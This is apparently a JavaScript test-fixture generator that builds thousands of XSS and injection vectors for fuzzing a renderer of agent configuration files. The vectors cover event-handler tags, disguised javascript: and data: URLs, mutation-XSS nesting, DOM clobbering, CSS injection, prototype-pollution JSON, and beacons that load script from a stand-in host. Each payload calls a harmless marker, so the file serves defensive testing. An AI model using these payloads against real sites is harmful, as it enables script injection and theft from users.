// Vectors made by rule rather than listed: whatever can be said in HTML, in a URL or in Markdown to make something
// run, load or lead away, each in many spellings. Deterministic: the same numbers give the same vectors. All of them
// call `ran(1)` or name `x.example`, so that a page can tell by a function of that name and by its requests.

const RUN = "ran(1)";

const TAGS = ("a abbr area article audio b base bdo blockquote body br button canvas col details dialog div embed em fieldset font "
  + "form frameset h1 iframe image img input ins isindex keygen label li link main map mark marquee math menu meter nav object ol "
  + "option output p picture pre progress q script section select slot source span strike style summary svg table tbody td "
  + "template textarea tfoot th title tr track u ul var video wbr x xmp custom-element").split(" ");

const EVENTS = ("abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut "
  + "beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload begin blur bounce cancel canplay "
  + "canplaythrough change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend "
  + "dragenter dragexit dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata "
  + "fullscreenchange gesturestart gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata "
  + "loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel "
  + "pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover "
  + "pointerrawupdate pointerup popstate progress ratechange readystatechange repeat reset resize scroll scrollend "
  + "scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start "
  + "submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun "
  + "transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkitfullscreenchange webkitmouseforcedown "
  + "wheel").split(" ");

/** What makes events come by themselves. */
const BAIT = "src=x href=#x data=x autofocus tabindex=0 open controls contenteditable style=animation:x";

/** Ways to write a start tag with a handler; `t` tag, `e` event. */
const SHAPES = [
  (t, e) => `<${t} ${BAIT} on${e}=${RUN}>`,
  (t, e) => `<${t} on${e}="${RUN}" ${BAIT}>x</${t}>`,
  (t, e) => `<${t}/on${e}='${RUN}'/src=x>`,
  (t, e) => `<${t.toUpperCase()} oN${e.toUpperCase()}=${RUN} ${BAIT}>`,
  (t, e) => `<${t}\non${e}\n=\n"${RUN}"\n${BAIT}\n>`,
  (t, e) => `<${t}\fon${e}=${RUN}\f${BAIT}//`,
  (t, e) => `"><${t} ${BAIT} on${e}=${RUN}><"`,
  (t, e) => `' on${e}='${RUN}' x='`,
  (t, e) => `<${t} x=">" on${e}=&#114;&#97;&#110;(1) ${BAIT}>`,
  (t, e) => `<${t} on${e}=ran&lpar;1&rpar; ${BAIT}>`,
  (t, e) => `&lt;${t} on${e}=${RUN} ${BAIT}&gt;`,
  (t, e) => `<<${t} \`on${e}=${RUN} ${BAIT}>`,
  (t, e) => `<${t} \u0000on${e}=${RUN} ${BAIT}>`,
  (t, e) => `<!--><${t} on${e}=${RUN} ${BAIT}>-->`,
  (t, e) => `\\<${t} on${e}=${RUN} ${BAIT}\\>`,
];

const SCHEMES = ["javascript:" + RUN, "data:text/html,<script>" + RUN + "</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
  "data:image/svg+xml,<svg onload=" + RUN + ">", "vbscript:" + RUN, "blob:https://x.example/1", "file:///etc/passwd", "filesystem:x", "about:blank",
  "view-source:https://x.example", "ms-its:x", "feed:javascript:" + RUN, "jar:javascript:" + RUN, "livescript:" + RUN, "intent://x#Intent;end",
  "ws://x.example", "ftp://x.example", "tel:1", "javascript://x.example/%0a" + RUN, "javascript:/**/" + RUN + "//https://x.example"];

/** What parsers drop, fold or decode on the way to a scheme. */
const DISGUISES = [
  (u) => u,
  (u) => u.toUpperCase().replace("RAN(1)", RUN),
  (u) => [...u].map((c, i) => (i % 2 && /[a-z]/.test(c) && i < u.indexOf(":") ? c.toUpperCase() : c)).join(""),
  (u) => u.replace(":", "&colon;"),
  (u) => u.replace(":", "&#58;"),
  (u) => u.replace(":", "&#x3a"),
  (u) => u.replace(":", "&#0000058;"),
  (u) => u.replace(":", "%3a"),
  (u) => u.replace(":", "\\:"),
  (u) => u.replace(":", "\\u003a"),
  (u) => u.replace(":", "\uff1a"),
  (u) => u.replace(":", "\u02d0"),
  (u) => u.replace(/^./, (c) => `&#${c.charCodeAt(0)};`),
  (u) => u.replace(/^./, (c) => `&#x${c.charCodeAt(0).toString(16)};`),
  (u) => u.replace(/^./, (c) => `%${c.charCodeAt(0).toString(16)}`),
  (u) => u.replace(/^./, (c) => `\\x${c.charCodeAt(0).toString(16)}`),
  (u) => u.replace("s", "\u017f"),
  (u) => u.replace("i", "\u0131"),
  (u) => u.replace("a", "\u00aa"),
  ...["\u0000", "\u0001", "\u0008", "\t", "\u000b", "\u001b", "\u001f", " ", "\u007f", "\u0085", "\u00a0", "\u00ad", "\u1680", "\u180e", "\u2000", "\u200b",
    "\u200d", "\u2028", "\u2029", "\u202e", "\u2060", "\u3000", "\ufeff", "\ufffd"].flatMap((c) => [(u) => c + u, (u) => u.slice(0, 4) + c + u.slice(4), (u) => u.replace(":", c + ":")]),
  ...["&Tab;", "&NewLine;", "&#9;", "&#10;", "&#13;", "&#xA;", "&#0;", "&#1;", "&#x1f;", "&nbsp;", "&shy;", "&ZeroWidthSpace;", "&bsol;", "&sol;"]
    .flatMap((c) => [(u) => c + u, (u) => u.slice(0, 4) + c + u.slice(4), (u) => u.replace(":", c + ":")]),
  (u) => "//" + u, (u) => "\\\\" + u, (u) => "/\\" + u, (u) => "./" + u, (u) => "#" + u, (u) => "?" + u, (u) => "https:" + u, (u) => "http:\t" + u,
  (u) => "https://x.example@" + u, (u) => "mailto:" + u, (u) => "&#x2f;&#x2f;" + u, (u) => "%5c%5c" + u, (u) => "\\" + u,
];

/** Whatever takes a URL in Markdown, and in the HTML that Markdown may hold. */
const LINKS = [
  (u) => `[x](${u})`, (u) => `[x](<${u}>)`, (u) => `![x](${u})`, (u) => `![x](<${u}> "t")`, (u) => `<${u}>`, (u) => `[x]: ${u}\n\n[x]`,
  (u) => `[x]: <${u}> 't'\n\n[y][x] ![z][x]`, (u) => `[![i](${u})](${u})`, (u) => `[x](${u} "t' onclick=${RUN} ")`, (u) => `a ${u} b`,
  (u) => `[x](\n${u}\n)`, (u) => `| a |\n|---|\n| [x](${u}) |`, (u) => `- [ ] [x](${u})`, (u) => `[^1]\n\n[^1]: [x](${u})`, (u) => `> [x](${u})\n> ![](${u})`,
  (u) => `# [x](${u})`, (u) => `**[x](${u})**~~![y](${u})~~`, (u) => `<a href="${u}">x</a>`, (u) => `<a xlink:href='${u}'>x`,
  (u) => `<iframe src="${u}"></iframe>`, (u) => `<form action="${u}"><button formaction="${u}">x`, (u) => `<meta http-equiv=refresh content="0;url=${u}">`,
  (u) => `<base href="${u}">`, (u) => `<object data="${u}">`, (u) => `<svg><a xlink:href="${u}"><text y=9>x`, (u) => `<svg><animate attributeName=href values="${u}">`,
];

/** How one element is hidden in another until it is parsed again. */
const OUTER = ["svg", "math", "math><mtext", "math><annotation-xml encoding='text/html'", "svg><desc", "svg><foreignObject", "svg><title", "svg><style", "math><mi", "noscript",
  "style", "template", "title", "textarea", "xmp", "iframe", "noembed", "noframes", "plaintext", "select", "select><option", "table", "table><caption", "form", "form><math", "option", "details"];
const INNER = ["style", "title", "noscript", "textarea", "mglyph", "malignmark", "table", "p", "br", "template", "a", "form", "!--", "![CDATA[", "xmp", "font color", "desc", "script", "?xml", "h1"];
const HIDDEN = [`<img src=x onerror=${RUN}>`, `</style><img src=x onerror=${RUN}>`, `<a title="</style><img src onerror=${RUN}>">`, `--><img src=x onerror=${RUN}>`,
  `<a id="</title></noscript></textarea><img src onerror=${RUN}>">`, `]]><img src=x onerror=${RUN}>`, `</template><script>${RUN}</script>`, `&lt;img src=x onerror=${RUN}&gt;`];

/** What ends what a value may stand in. */
const BREAKS = [`"`, `'`, "`", `">`, `'>`, `-->`, `--!>`, `]]>`, `</span>`, `</code></pre>`, `</p></section>`, `</style>`, `</title>`, `</textarea>`, `</template>`, `</script>`, `</mark>`, "\u2028", "\u0000", "&quot;>", "&#34;>", `\\">`,
  "\\u0022>", `{{`, "${", "<%", "]", ")", "|", "```\n", "~~~\n", "\n---\n", "\n\n", "*/", "%>", "\u202e"];
const AFTER = [`<img src=x onerror=${RUN}>`, ` onmouseover=${RUN} x=`, `<script>${RUN}</script>`, `constructor.constructor('${RUN}')()`, ` style=background:url(//x.example) `, ` autofocus onfocus=${RUN} tabindex=0 `];
const PLACES = [(v) => v, (v) => `[x](https://a.example/${v})`, (v) => `[x](https://a.example "${v}")`, (v) => `[x](https://a.example '${v}')`, (v) => `[x](<https://a.example/${v}> (${v}))`,
  (v) => `![${v}](https://a.example/i.png)`, (v) => `\`\`\`${v}\ncode\n\`\`\``, (v) => `~~~ ${v}\n${v}`, (v) => `\`${v}\` \`\` ${v} \`\``, (v) => `| ${v} | b |\n|:-:|-|\n| ${v} | \`${v}\` |`, (v) => `# ${v} {#${v} .${v}}`,
  (v) => `[${v}]: https://a.example "${v}"\n\n[${v}]`, (v) => `<https://a.example/${v}>`, (v) => `<a@a.example${v}>`, (v) => `1. ${v}\n   - ${v}\n     > ${v}`, (v) => `<!-- ${v}`, (v) => `<example>\nContext: ${v}\nuser: "${v}"\nassistant: "${v}"\n<commentary>${v}</commentary>\n</example>`,
  (v) => `[^${v}]\n\n[^${v}]: ${v}`, (v) => `$${v}$ $$${v}$$ ^${v}^ ~${v}~`];

/** Names that hide what a page or a language has of the same name. */
const NAMES = ["editor", "verdict", "host", "path", "findings", "preview-body", "notes", "plain", "search", "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "location", "document", "body", "head",
  "cookie", "forms", "links", "scripts", "currentScript", "getElementById", "querySelector", "createElement", "trustedTypes", "customElements", "navigator", "ran", "children", "attributes", "parentNode", "ownerDocument", "innerHTML", "nodeName", "length", "item", "then"];
const CLOBBERS = [(n) => `<a id=${n}>`, (n) => `<a id=${n}><a id=${n} name=x href="javascript:${RUN}">`, (n) => `<form id=${n}><input name=${n}><output id=x>`, (n) => `<img name=${n} src=//x.example>`,
  (n) => `<iframe name=${n} srcdoc="<a id=x>"></iframe>`, (n) => `[${n}]: #${n}\n\n[${n}] [x](#${n}) # ${n} {#${n}}`, (n) => `\`\`\`${n}\n${n}\n\`\`\``, (n) => `${n}: ${n}`, (n) => `<embed name=${n}><object id=${n}>`];

/** What asks a server for something, without running anything. */
const BEACONS = ["<img src=//x.example/1>", "<img srcset='//x.example/2 1x'>", "![x](//x.example/3)", "![x](https://x.example/4 'y')", "<image href=//x.example/5>", "<svg><image href=//x.example/6>", "<svg><use href=//x.example/7#a>", "<svg><feImage href=//x.example/8>",
  "<link rel=stylesheet href=//x.example/9>", "<link rel=prefetch href=//x.example/10>", "<link rel=dns-prefetch href=//x.example>", "<link rel=preconnect href=//x.example>", "<link rel=modulepreload href=//x.example/11>", "<link rel=icon href=//x.example/12>",
  "<link rel=manifest href=//x.example/13>", "<link rel=prerender href=//x.example/14>", "<style>@import '//x.example/15';</style>", "<style>*{background:url(//x.example/16)}@font-face{font-family:x;src:url(//x.example/17)}</style>", "<p style='background:url(//x.example/18)'>x",
  "<body background=//x.example/19>", "<table background=//x.example/20><td background=//x.example/21>", "<video poster=//x.example/22 src=//x.example/23>", "<audio src=//x.example/24 autoplay>", "<source src=//x.example/25>", "<track src=//x.example/26 default>",
  "<embed src=//x.example/27>", "<object data=//x.example/28>", "<iframe src=//x.example/29>", "<iframe srcdoc='<img src=//x.example/30>'>", "<frameset><frame src=//x.example/31>", "<input type=image src=//x.example/32>", "<script src=//x.example/33></script>",
  "<script type=module>import '//x.example/34'</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//x.example/35\"]}]}</script>", "<script type=importmap>{\"imports\":{\"x\":\"//x.example/36\"}}</script>", "<a href=//x.example/37 ping=//x.example/38>x</a>",
  "<meta http-equiv=refresh content='0;url=//x.example/39'>", "<meta http-equiv=Content-Security-Policy content=\"default-src *;report-uri //x.example/40\">", "<base href=//x.example/41/>", "<form action=//x.example/42><input type=submit autofocus>", "<portal src=//x.example/43>",
  "<fencedframe src=//x.example/44>", "<html manifest=//x.example/45>", "<bgsound src=//x.example/46>", "<applet code=//x.example/47>", "<isindex action=//x.example/48>", "<?xml-stylesheet href=//x.example/49?>", "<!DOCTYPE x SYSTEM '//x.example/50'>", "<math><maction actiontype=statusline xlink:href=//x.example/51>",
  "<template shadowrootmode=open><img src=//x.example/52></template>", "<xss style='list-style:url(//x.example/53)'>", "<ul style=list-style-image:url(//x.example/54)><li>", "<div style='content:image-set(\"//x.example/55\" 1x)'>", "{background:url(//x.example/56)}", "</style><style>:root{--x:url(//x.example/57)}", "url(//x.example/58)"];

const CSS = ["red;background:url(//x.example)", "red}*{display:none}", "expression(ran(1))", "-moz-binding:url(//x.example)", "var(--x)", "red\\3b background:url(//x.example)", "url(javascript:ran(1))", "red/**/;position:fixed", "\"];*{background:url(//x.example)}[x=\"", "red' onload='ran(1)"];

/** Every `step`-th of all vectors, beginning with the one at `from`. @param {{step?: number, from?: number}} [some] */
export function vectors({ step = 1, from = 0 } = {}) {
  const all = [];
  TAGS.forEach((tag, i) => EVENTS.forEach((event, j) => all.push(SHAPES[(i * 7 + j) % SHAPES.length](tag, event))));
  SCHEMES.forEach((url, i) => DISGUISES.forEach((disguise, j) => {
    // Those that browsers run get every link, all others one.
    const links = i === 0 ? LINKS : [LINKS[(i * 5 + j) % LINKS.length]];
    for (const link of links) all.push(link(disguise(url)));
  }));
  OUTER.forEach((outer, i) => INNER.forEach((inner, j) => all.push(`<${outer}><${inner}>${HIDDEN[(i * 3 + j) % HIDDEN.length]}</${inner}></${outer.split(">")[0]}>`)));
  BREAKS.forEach((end, i) => PLACES.forEach((place, j) => all.push(place(end + AFTER[(i + j) % AFTER.length]))));
  NAMES.forEach((name) => CLOBBERS.forEach((clobber) => all.push(clobber(name))));
  all.push(...BEACONS, ...CSS, ...CSS.map((css) => `<p style="color:${css}">x`));
  return all.filter((_, index) => index % step === from % step);
}

const quoted = (text) => JSON.stringify(text);
const indented = (text) => text.replace(/\r\n?|\n/g, "\n  ");
const line = (text) => text.replace(/\s+/g, " ");
const file = (head, body = "Body\n") => `---\n${head}\n---\n\n${body}`;
const whole = (key, value) => file(`${key === "name" ? "" : "name: a\n"}${key === "description" ? "" : "description: b\n"}${key}: ${value}`);

/** Files with a vector in each place that a file has; some of them are broken by it. @type {Record<string, (vector: string) => string>} */
export const FILES = {
  body: (v) => file("name: a\ndescription: Use it when asked.", v),
  nothing: (v) => v,
  name: (v) => whole("name", quoted(v)),
  description: (v) => whole("description", quoted(v)),
  block: (v) => whole("description", `|\n  ${indented(v)}`),
  folded: (v) => whole("description", `>-\n  ${indented(v)}`),
  plain: (v) => whole("description", line(v)),
  single: (v) => whole("description", `'${line(v).replaceAll("'", "''")}'`),
  example: (v) => whole("description", `|\n  Use it.\n\n  <example>\n  Context: ${indented(v)}\n  user: "${indented(v)}"\n  assistant: "${indented(v)}"\n  <commentary>\n  ${indented(v)}\n  </commentary>\n  </example>`),
  fields: (v) => file(["name: a", "description: b", ...["color", "model", "permissionMode", "effort", "memory", "background", "isolation", "maxTurns", "initialPrompt"].map((key) => `${key}: ${quoted(v)}`)].join("\n")),
  lists: (v) => file(["name: a", "description: b", ...["tools", "disallowedTools", "skills", "mcpServers"].map((key) => `${key}: [Read, ${quoted(v)}, ${quoted(`mcp__${line(v)}__x`)}, ${quoted(`Bash(${line(v)})`)}, ${quoted(`Agent(${line(v)})`)}]`)].join("\n")),
  hooks: (v) => file(`name: a\ndescription: b\nhooks:\n  PreToolUse:\n    - matcher: ${quoted(v)}\n      hooks:\n        - type: ${quoted(v)}\n          command: ${quoted(v)}\n  ${quoted(v)}: 1\nmcpServers:\n  ${quoted(v)}:\n    command: ${quoted(v)}`),
  key: (v) => file(`name: a\ndescription: b\n${quoted(v)}: ${quoted(v)}\n${line(v)}: x`),
  comment: (v) => file(`name: a # ${line(v)}\n# passmuster: ignore[${line(v)}] ${line(v)}\ndescription: b # ${line(v)}`, `<!-- ${v} -->`),
  anchor: (v) => file(`name: &${line(v)} a\ndescription: *${line(v)}\ncolor: !${line(v)} red`),
  broken: (v) => `---\nname: x\ndescription: [${line(v)}\n${line(v)}\n---\n${v}`,
  tabs: (v) => `---\r\nname: a\r\n\tdescription: "${line(v)}\r\n${line(v)}\r\n---\r\n${v}`,
};

/** Hashes and stored values that are not what they claim. */
export const HASHES = ["#", "#v1.", "#v1.!", "#v1.AAAA", "#v2.AAAA", "#v99999999999999999999.x", "#v1.<img src=x onerror=ran(1)>", "#v1.%3Cscript%3Eran(1)%3C/script%3E", "#V1.AAAA", "#v1.__proto__", "#javascript:ran(1)",
  "#example/", "#example/__proto__", "#example/constructor", "#example/toString", "#example/hasownproperty", "#example/../x", "#example/<img src=x onerror=ran(1)>", "#example/%2e%2e", "#example/x'\"><script>ran(1)</script>", "#editor", "#__proto__", "#:~:text=x", "#v1.AAAA\u202e"];

/** What a link's JSON may hold instead of work. */
export const WORKS = ['null', '1', '"x"', '[]', '{}', '{"text":1}', '{"text":"x","__proto__":{"polluted":1}}', '{"text":"x","constructor":{"prototype":{"polluted":1}}}', '{"text":"x","rules":{"__proto__":{"polluted":1}}}', '{"text":"x","rules":{"__proto__":"off"}}',
  '{"text":"x","rules":{"constructor":"off"}}', '{"text":"x","rules":{"tostring":"error"}}', '{"text":"x","rules":{"extra-field":"<img src=x onerror=ran(1)>"}}', '{"text":"x","rules":{"<img src=x onerror=ran(1)>":"off"}}', '{"text":"x","rules":[]}', '{"text":"x","host":"__proto__"}',
  '{"text":"x","host":"constructor"}', '{"text":"x","host":"\\"]<img src=x onerror=ran(1)>"}', '{"text":"x","path":{"toString":1}}', '{"text":"x","path":"javascript:ran(1)"}', '{"text":"x","path":"\\"><img src=x onerror=ran(1)>"}', '{"text":"x","other":1}', '{"text":{"length":1e9}}', '{"text":"x","text":2}',
  '{"toJSON":"x","text":"x"}', '{"text":"x","then":"y"}', '{"text":"\\ud800"}', '{"text":"x"', '\ufeff{"text":"x"}', '{"text":"x"}{"text":"y"}'];
